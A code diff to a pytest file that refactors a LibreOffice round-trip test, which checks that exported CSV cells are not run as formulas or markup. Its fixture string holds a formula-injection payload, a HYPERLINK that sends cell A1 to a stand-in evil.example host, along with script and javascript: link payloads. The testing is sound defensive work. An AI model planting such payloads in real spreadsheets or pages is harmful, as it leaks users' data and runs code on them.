@@ -11,7 +11,6 @@ import csv
 import io
 import os
 import re
-import shutil
 import stat
 import subprocess
 import sys
@@ -20,10 +19,11 @@ from pathlib import Path
 
 import pytest
 
+from tests.cli.libreoffice import NEEDED, convert
+
 # A name may hold anything but `= , :` (C-4): what a spreadsheet or a Markdown viewer would read as code.
 HOSTILE = ["+Ana", "@Bea", "-Cid"]
 NOTE = '=HYPERLINK("http://evil.example/?"&A1)\r+SUM(1)\n| forged | row |\n<script>alert(1)</script> [x](javascript:alert(1)) <b>'
-SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
 
 
 @pytest.fixture
@@ -70,21 +70,16 @@ def test_csv_quotes_a_cell_holding_any_line_break():
         assert page == f'note\n"a{cut}b"\nc\n'
 
 
-@pytest.mark.skipif(not SOFFICE, reason="no LibreOffice (soffice) here: .ci/run installs libreoffice-calc-nogui")
+@NEEDED
 def test_libreoffice_opens_the_csv_as_text_and_figures(hostile, tmp_path: Path) -> None:
     """The CSV as a spreadsheet reads it, formulas evaluated (the import's 13th option): a cell LibreOffice
     had run would be a value (`2`, an error) in the CSV it writes back; every text cell is as written."""
     source = tmp_path / "fiche.csv"
     written(hostile, source)
-    out = tmp_path / "out"
-    subprocess.run(
-        [str(SOFFICE), "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}"]
-        + ["--infilter=CSV:44,34,76,1,,0,false,true,true,false,false,-1,true", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(out), str(source)],
-        check=True,
-        capture_output=True,
-        timeout=180,
+    back = convert(
+        source, "CSV:44,34,76,1,,0,false,true,true,false,false,-1,true", "csv:Text - txt - csv (StarCalc):44,34,76", tmp_path
     )
-    read_back = list(csv.reader(io.StringIO((out / "fiche.csv").read_bytes().decode(), newline="")))
+    read_back = list(csv.reader(io.StringIO(back.read_bytes().decode(), newline="")))
     written_rows = list(csv.reader(io.StringIO(source.read_bytes().decode(), newline="")))
     assert len(read_back) == len(written_rows) == 3
     for ours, theirs in zip(written_rows, read_back, strict=True):
